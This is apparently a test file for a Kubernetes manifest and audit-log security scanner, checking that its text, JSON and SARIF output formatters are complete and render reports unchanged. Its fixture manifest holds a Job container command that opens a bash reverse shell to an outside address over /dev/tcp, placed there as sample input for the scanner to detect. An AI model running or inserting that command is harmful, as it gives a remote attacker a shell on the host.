/**
 * FORMATTERS is the one list of output formats every host reads. Its entries must render exactly what
 * the formatter modules render (the CLI's output is byte for byte what it was before the table), and
 * each must be complete enough for a host to offer it: a name, a label, an extension, a media type.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyseManifest, formatJson, formatSarif, formatText, type ScanReport } from '../src/index.js';
import { collectAuditLog, formatAuditJson, formatAuditSarif, formatAuditText, type AuditReport } from '../src/entries/audit.js';
import { auditFormatters, formatAuditReport, FORMATTERS, formatterByName, type OutputFormat } from '../src/entries/formats.js';

const MANIFEST = `apiVersion: batch/v1
kind: Job
metadata: {name: j}
spec:
  template:
    spec:
      hostNetwork: true
      containers:
        - name: c
          image: alpine:3.20
          command: ["sh", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"]
`;

const scanReport: ScanReport = { files: [{ file: 'job.yaml', result: analyseManifest(MANIFEST, 'job.yaml') }], errors: [] };
const options = { toolVersion: '9.9.9', baseUri: 'file:///repo/' };

test('each entry is complete and named once, and text, json and sarif are there', () => {
  assert.deepEqual(FORMATTERS.map((format) => format.name), ['text', 'json', 'sarif']);
  for (const field of ['name', 'label', 'extension', 'mediaType'] as const) {
    assert.equal(new Set(FORMATTERS.map((format) => format[field])).size, FORMATTERS.length, `${field} is unique`);
  }
  for (const format of FORMATTERS) {
    assert.match(format.name, /^[a-z][a-z0-9-]*$/);
    assert.match(format.extension, /^[a-z0-9]+$/);
    assert.match(format.mediaType, /^[a-z]+\/[a-z0-9.+-]+$/);
    assert.ok(format.description.length > 0 && !format.description.includes('\n'), format.name);
    assert.equal(formatterByName(format.name), format);
  }
  assert.equal(formatterByName('xml'), undefined);
  assert.equal(formatterByName('__proto__'), undefined);
});

test('a scan renders exactly as the formatter modules render it', () => {
  assert.equal(formatterByName('text')!.scan(scanReport, { ...options, color: true, showSuppressed: true }), formatText(scanReport, { color: true, showSuppressed: true }));
  assert.equal(formatterByName('json')!.scan(scanReport, options), formatJson(scanReport));
  assert.equal(formatterByName('sarif')!.scan(scanReport, options), formatSarif(scanReport, options));
});

test('an audit report renders exactly as the formatter modules render it', async () => {
  const line = JSON.stringify({
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: 'a1', stage: 'ResponseComplete', verb: 'create',
    user: { username: 'alice' }, objectRef: { resource: 'jobs', namespace: 'ci', name: 'j', apiGroup: 'batch' }, responseStatus: { code: 201 },
    requestObject: { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j', namespace: 'ci' }, spec: { template: { spec: { hostNetwork: true, containers: [] } } } },
    stageTimestamp: '2026-03-02T10:00:00Z',
  });
  const scan = await collectAuditLog(new Blob([line + '\n']).stream(), { source: 'audit.log' });
  const report: AuditReport = {
    mode: 'structural',
    files: [{ file: 'audit.log', matches: scan.matches, uninspectable: scan.uninspectable, suppressed: scan.suppressed, summary: scan.summary, problems: scan.problems, formats: [...scan.formats] }],
    errors: [],
  };
  assert.equal(scan.matches.length, 1);
  assert.equal(formatAuditReport(formatterByName('text')!, report, options), formatAuditText(report));
  assert.equal(formatAuditReport(formatterByName('json')!, report, options), formatAuditJson(report));
  assert.equal(formatAuditReport(formatterByName('sarif')!, report, options), formatAuditSarif(report, options));
  assert.deepEqual(auditFormatters().map((format) => format.name), ['text', 'json', 'sarif']);
});

test('formatAuditReport refuses a format without an audit report', () => {
  const scanOnly: OutputFormat = { ...formatterByName('json')!, name: 'scan-only', audit: undefined };
  const report: AuditReport = { mode: 'structural', files: [], errors: [] };
  assert.throws(() => formatAuditReport(scanOnly, report, options), /scan-only format has no audit report/);
});
